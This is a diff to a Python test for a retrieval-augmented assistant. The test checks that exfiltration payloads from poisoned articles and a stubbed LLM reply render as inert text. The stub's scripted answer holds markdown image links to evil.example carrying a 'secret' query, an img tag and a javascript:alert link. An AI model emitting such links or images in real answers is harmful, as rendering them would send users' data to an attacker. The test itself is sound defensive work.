@@ -103,13 +103,14 @@ def test_exfiltration_payloads_reach_the_browser_as_text_on_both_answerers(paylo
     folder = payload_index / "articles"
     extractive = Assistant(index_dir=str(payload_index / "index"), quiet=True)
     answer = extractive.ask(QUESTION)
-    assert not answer.abstained and "](//evil.example" in answer.text  # the payload is quoted, as text
+    assert not answer.abstained and "//evil.example" in answer.text  # a payload is quoted, as text
     llm = Assistant(index_dir=str(payload_index / "index"), answerer="llm", llm_base_url=stub.base_url,
                     llm_model="stub", llm_max_tokens=333, quiet=True)
     stub.script({"text": "配方是三份浓缩![](https://evil.example/?q=秘密)[1]。详见 https://evil.example/x 或 "
                          "www.evil.example[2]。<img src=\"//evil.example/p.png\">[1] [链接](javascript:alert(1))"})
     manipulated = llm.ask(QUESTION)
-    assert manipulated.citations and not manipulated.notice
+    # the grounding check may re-cite or drop sentences (its notice says so); payloads that survive must be inert
+    assert manipulated.citations and "evil.example" in manipulated.text
     for a in (answer, manipulated):
         assert_inert(app.answer_html(a.text, 1, a), markdown=True)
         assert_inert(app.turn_panel(a, 1, folder), markdown=False)
